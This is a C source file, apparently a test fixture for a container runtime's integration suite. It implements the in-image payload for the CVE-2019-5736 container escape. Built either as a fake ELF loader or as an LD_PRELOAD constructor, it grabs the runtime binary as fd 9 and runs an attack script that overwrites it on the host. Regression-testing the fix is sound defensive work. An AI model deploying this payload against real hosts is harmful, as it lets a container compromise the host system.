/* exe-overwrite: the hostile image's half of the CVE-2019-5736 attack, as
 * tests/integration/cve.sh plays it.
 *
 * The image's entrypoint is a script whose interpreter is `/proc/self/exe`:
 * when the runtime's process in the container execs it, the kernel runs the
 * runtime's own binary again, as a process of the container, and loads the
 * binary's ELF interpreter (its PT_INTERP path) from the container's root.
 * This program is what the image puts there, in one of two forms:
 *
 *   - built with -DFAKE_LOADER, static and without libc: a fake ELF
 *     interpreter installed at the runtime's PT_INTERP path
 *     (/lib/ld-musl-x86_64.so.1, /lib64/ld-linux-x86-64.so.2);
 *   - built as a shared object: preloaded (LD_PRELOAD in the image's
 *     environment) by the genuine loader the image carries, its constructor
 *     runs before the runtime's main.
 *
 * Either way it takes the runtime's binary (/proc/self/exe, now the
 * binary that runs in this very process) as an O_PATH fd 9 and execs
 * `/bin/sh /attack.sh`, which keeps reopening /proc/self/fd/9 for writing
 * until the runtime on the host has exited and it succeeds, or it gives up
 * (tests/integration/cve.sh writes the script).
 * Linux x86_64 only: no libc, raw system calls. */

#define NR_OPENAT 257
#define NR_DUP2 33
#define NR_EXECVE 59
#define NR_EXIT_GROUP 231
#define AT_FDCWD_ (-100)
#define O_PATH_ 010000000

static long
sys3 (long n, long a, long b, long c)
{
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}

static long
sys4 (long n, long a, long b, long c, long d)
{
  register long r10 __asm__("r10") = d;
  long r;
  __asm__ volatile("syscall"
                   : "=a"(r)
                   : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
                   : "rcx", "r11", "memory");
  return r;
}

static void
attack (char **envp)
{
  static const char sh[] = "/bin/sh";
  static const char script[] = "/attack.sh";
  const char *argv[] = { sh, script, 0 };
  long fd = sys4 (NR_OPENAT, AT_FDCWD_, (long) "/proc/self/exe", O_PATH_, 0);

  if (fd >= 0 && fd != 9)
    sys3 (NR_DUP2, fd, 9, 0);
  sys3 (NR_EXECVE, (long) sh, (long) argv, (long) envp);
  sys3 (NR_EXIT_GROUP, 126, 0, 0);
}

#ifdef FAKE_LOADER
/* The kernel enters an interpreter with the stack of the program it loads:
 * argc, argv, NULL, envp, NULL, auxv. */
__asm__(".text\n"
        ".globl _start\n"
        "_start:\n"
        "  xor %rbp, %rbp\n"
        "  mov %rsp, %rdi\n"
        "  and $-16, %rsp\n"
        "  call loader_main\n"
        "  hlt\n");

void loader_main (long *sp) __attribute__ ((used, noreturn));

void
loader_main (long *sp)
{
  long argc = sp[0];
  char **argv = (char **) (sp + 1);

  attack (argv + argc + 1);
  for (;;)
    ;
}
#else
/* musl calls constructors without arguments: the script gets an
 * environment of its own. */
static void __attribute__ ((constructor)) preload_main (void)
{
  static const char *env[] = { "PATH=/bin", 0 };
  attack ((char **) env);
}
#endif
